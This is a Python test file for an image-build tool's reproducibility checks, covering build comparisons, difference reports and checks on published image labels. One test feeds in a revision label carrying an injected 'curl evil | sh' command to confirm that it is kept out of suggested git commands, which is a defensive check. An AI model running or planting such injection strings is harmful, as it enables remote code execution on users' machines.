"""Verdicts on two builds of an image, from a fake builder that returns given archives."""

from __future__ import annotations

import dataclasses
import hashlib
import io
import tarfile
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest

from bakery.build import reproducibility
from bakery.build.builder import Builder
from bakery.build.reproducibility import Published, verdict_report, verify_image, verify_published
from bakery.catalog.models import Catalog, Image
from bakery.errors import BuildError, InputError, UnknownResult
from bakery.oci.manifests import ManifestError
from bakery.platforms import Platform
from bakery.registry import RegistryError
from bakery.workspace import Workspace
from tests.archives import Archive, make_tar


class FakeBuilder:
    """Returns the given identities and archives as its builds, one after the other."""

    def __init__(self, root: Path, catalog: Catalog, *made: tuple[str, Path], error: str = "") -> None:
        self.workspace, self.catalog, self.made, self.error = Workspace(root, root), catalog, list(made), error
        self.engine = SimpleNamespace(save=lambda _: [self.saved])
        self.saved, self.builds = b"", 0

    def build(self, _: list[Image]) -> list[Any]:
        self.builds += 1
        if self.error:
            return [SimpleNamespace(error=self.error, record=None)]
        identity, file = self.made.pop(0)
        self.saved = file.read_bytes()
        return [
            SimpleNamespace(error="", record=SimpleNamespace(id=identity, twin="sha256:twin"), tags=("python:3.13",))
        ]


def archive(file: Path, content: bytes) -> tuple[str, Path]:
    """The identity and the archive of an image with the file ``a``."""
    made = Archive()
    identity = made.image([make_tar({"a": content})], "none")["digest"]
    file.write_bytes(made.save())
    return identity, file


def verify(builder: FakeBuilder, image: Image) -> Any:
    verdict = verify_image(cast(Builder, builder), image)
    assert not list((builder.workspace.build / "verify").iterdir()), "an archive was left behind"
    return verdict


def test_two_builds_with_the_same_identity_are_the_same_bits(
    tmp_path: Path, catalog: Catalog, image: Callable[..., Image]
) -> None:
    made = archive(tmp_path / "1.tar", b"x")
    builder = FakeBuilder(tmp_path, catalog, made, made)
    verdict = verify(builder, image("3.13"))
    assert (verdict.same, verdict.digests, builder.builds) == (True, (made[0], made[0]), 2)
    report = verdict_report([verdict])
    assert report.rows[0]["same"] == "the same bits"  # type: ignore[index]
    assert (report.notes, report.failure) == ([], None)


def test_the_files_that_differ_are_reported(tmp_path: Path, catalog: Catalog, image: Callable[..., Image]) -> None:
    first = archive(tmp_path / "1.tar", b"x")
    second = archive(tmp_path / "2.tar", b"y")
    verdict = verify(FakeBuilder(tmp_path, catalog, first, second), image("3.13"))
    report = verdict_report([verdict])
    with pytest.raises(BuildError, match="1 of 1 images are not reproducible"):
        report.show()
    assert report.notes == ["3.13.15-bookworm: layer 1, a: 1 of 1 bytes, first at 0: 78 against 79"]
    assert report.rows[0] == {
        "image": "3.13.15-bookworm", "same": "different", "digest": f"{first[0]} {second[0]}", "differences": 1,
    }  # fmt: skip


def test_an_archive_of_another_image_than_the_build_has_made_is_not_compared(
    tmp_path: Path, catalog: Catalog, image: Callable[..., Image]
) -> None:
    first, second = archive(tmp_path / "1.tar", b"x"), archive(tmp_path / "2.tar", b"y")
    builder = FakeBuilder(tmp_path, catalog, first, (f"sha256:{'1' * 64}", second[1]))
    with pytest.raises(ManifestError, match=f"the image archive has {second[0]}, expected sha256:111"):
        verify(builder, image("3.13"))


@pytest.mark.parametrize("limits", [{"FILE_LIMIT": 99}, {"LAYER_LIMIT": 150}])
def test_content_over_a_limit_is_compared_by_digest_and_not_kept(
    tmp_path: Path, catalog: Catalog, image: Callable[..., Image], monkeypatch: pytest.MonkeyPatch,
    limits: dict[str, int],
) -> None:  # fmt: skip
    for name, limit in limits.items():
        monkeypatch.setattr(reproducibility, name, limit)
    images = []
    for number, letter in enumerate(b"xy", 1):
        made = Archive()
        layer = make_tar({"a": b"same" * 20, "b": bytes([letter]) * 100, "c": bytes([letter])})
        images.append((made.image([layer], "none")["digest"], tmp_path / f"{number}.tar"))
        images[-1][1].write_bytes(made.save())
    verdict = verify(FakeBuilder(tmp_path, catalog, *images), image("3.13"))
    assert [(file.path, file.description) for file in verdict.differences] == [
        ("b", "different bytes"), ("c", "1 of 1 bytes, first at 0: 78 against 79"),
    ]  # fmt: skip


def test_a_large_file_is_not_read_into_memory(tmp_path: Path) -> None:
    tar = make_tar({"large": bytes(64 << 20)})
    with tarfile.open(fileobj=io.BytesIO(tar)) as opened:
        tracemalloc.start()
        file = reproducibility._file(opened, opened.getmembers()[0], reproducibility.FILE_LIMIT)
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert file.content is None and file.sha256 == hashlib.sha256(bytes(64 << 20)).hexdigest()
    assert most < 8 << 20


def test_after_a_failed_build_it_is_unknown_whether_the_image_is_reproducible(
    tmp_path: Path, catalog: Catalog, image: Callable[..., Image]
) -> None:
    builder = FakeBuilder(tmp_path, catalog, error="no room")
    verdict = verify(builder, image("3.13"))
    assert (verdict.same, verdict.error, builder.builds) == (False, "no room", 1)
    failure = verdict_report([verdict]).failure
    assert isinstance(failure, UnknownResult) and failure.exit_code == 2
    assert "1 of 1 images could not be built" in failure.message
    different = dataclasses.replace(verdict, digests=("sha256:1", "sha256:2"), error="")
    both = verdict_report([verdict, different]).failure
    assert isinstance(both, BuildError) and both.message == "1 of 2 images are not reproducible"


class Rebuilder(FakeBuilder):
    """Builds an image whose inputs give it these labels."""

    def __init__(self, root: Path, catalog: Catalog, planned: dict[str, str], *made: tuple[str, Path]) -> None:
        super().__init__(root, catalog, *made)
        self.inputs = SimpleNamespace(resolve=lambda *_: SimpleNamespace(labels=lambda *_: planned))


def published(image: Image, digest: str, **changed: str) -> Published:
    labels = {
        "org.opencontainers.image.version": image.pin.release, "org.opencontainers.image.revision": "1" * 40,
        "io.github.infra7.python.target": "bookworm", "io.github.infra7.python.variant": "default",
        "io.github.infra7.python.recipe": "full", "io.github.infra7.python.source.sha256": image.pin.sha256,
    }  # fmt: skip
    labels |= {f"io.github.infra7.python.{name}": value for name, value in changed.items()}
    config: Any = {"config": {"Labels": labels}, "rootfs": {"diff_ids": ["sha256:1"]}}
    return Published("r.example/python:3.13", Platform("linux/amd64"), digest, config)


@pytest.mark.parametrize("digest", ["sha256:new", "sha256:twin"])
def test_a_published_image_that_can_be_built_again_has_the_same_bits(
    tmp_path: Path, catalog: Catalog, image: Callable[..., Image], digest: str
) -> None:
    remote = published(image("3.13"), digest)
    made = "sha256:new", archive(tmp_path / "1.tar", b"x")[1]
    builder = Rebuilder(tmp_path, catalog, dict(remote.labels), made)
    verdict = verify_published(cast(Builder, builder), remote)
    assert (verdict.same, verdict.image, builder.builds) == (True, image("3.13"), 1)


def test_a_published_image_with_other_bits_is_a_failure_that_names_the_layers(
    tmp_path: Path, catalog: Catalog, image: Callable[..., Image]
) -> None:
    remote = published(image("3.13"), "sha256:published")
    made = archive(tmp_path / "1.tar", b"x")
    builder = Rebuilder(tmp_path, catalog, dict(remote.labels), made)
    verdict = verify_published(cast(Builder, builder), remote)
    assert (verdict.same, verdict.digests) == (False, ("sha256:published", made[0]))
    assert any(difference.layer == 1 for difference in verdict.differences)
    assert isinstance(verdict_report([verdict]).failure, BuildError)


def test_a_published_configuration_may_lack_layers_and_be_megabytes_long(
    tmp_path: Path, catalog: Catalog, image: Callable[..., Image]
) -> None:
    remote = published(image("3.13"), "sha256:published")
    config: Any = {"config": {"Labels": dict(remote.labels)}, "history": ["x" * (1 << 20)]}
    made = archive(tmp_path / "1.tar", b"x")
    builder = Rebuilder(tmp_path, catalog, dict(remote.labels), made)
    verdict = verify_published(cast(Builder, builder), dataclasses.replace(remote, config=config))
    descriptions = [difference.description for difference in verdict.differences]
    assert "0 layers against 1" in descriptions and max(map(len, descriptions)) < 1100


def test_other_inputs_are_reported_before_anything_is_built(
    tmp_path: Path, catalog: Catalog, image: Callable[..., Image]
) -> None:
    remote = published(image("3.13"), "sha256:published")
    planned = {**remote.labels, "org.opencontainers.image.revision": "2" * 40}
    builder = Rebuilder(tmp_path, catalog, planned)
    with pytest.raises(InputError, match=f"image.revision: {'1' * 40} in the image, {'2' * 40} here") as error:
        verify_published(cast(Builder, builder), remote)
    assert error.value.hint == f"git checkout {'1' * 40}" and builder.builds == 0


def test_an_image_from_another_tarball_or_tool_cannot_be_built_again(
    catalog: Catalog, image: Callable[..., Image]
) -> None:
    with pytest.raises(InputError, match="pins a different tarball"):
        published(image("3.13"), "sha256:1", **{"source.sha256": "0" * 64}).select(catalog)
    with pytest.raises(InputError, match="does not have this tool's labels"):
        published(image("3.13"), "sha256:1", target="").select(catalog)


def test_an_image_whose_registry_does_not_answer_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    def unreachable(*_: object) -> None:
        raise RegistryError("r.example cannot be reached")

    monkeypatch.setattr(reproducibility.Registry, "image", unreachable)
    with pytest.raises(RegistryError, match=r"^r\.example/python:3\.13 cannot be read: r\.example cannot be") as caught:
        Published.find("r.example/python:3.13", [Platform("linux/amd64")])
    assert "in a registry, such as" in caught.value.hint and caught.value.exit_code == 1


def test_a_revision_that_is_not_a_commit_is_left_out_of_suggested_commands(
    catalog: Catalog, image: Callable[..., Image]
) -> None:
    remote = published(image("3.13"), "sha256:1", **{"source.sha256": "0" * 64})
    config: Any = {"config": {"Labels": {**remote.labels, "org.opencontainers.image.revision": "x; curl evil | sh"}}}
    with pytest.raises(InputError) as error:
        dataclasses.replace(remote, config=config).select(catalog)
    assert error.value.hint.endswith("git checkout COMMIT")


def test_a_label_of_a_megabyte_is_shortened_in_the_error(image: Callable[..., Image]) -> None:
    remote = published(image("3.13"), "sha256:1", variant="x" * (1 << 20))
    with pytest.raises(InputError, match="was built from different inputs") as caught:
        remote.require_same({"io.github.infra7.python.variant": "default"})
    assert len(caught.value.message) < 5000
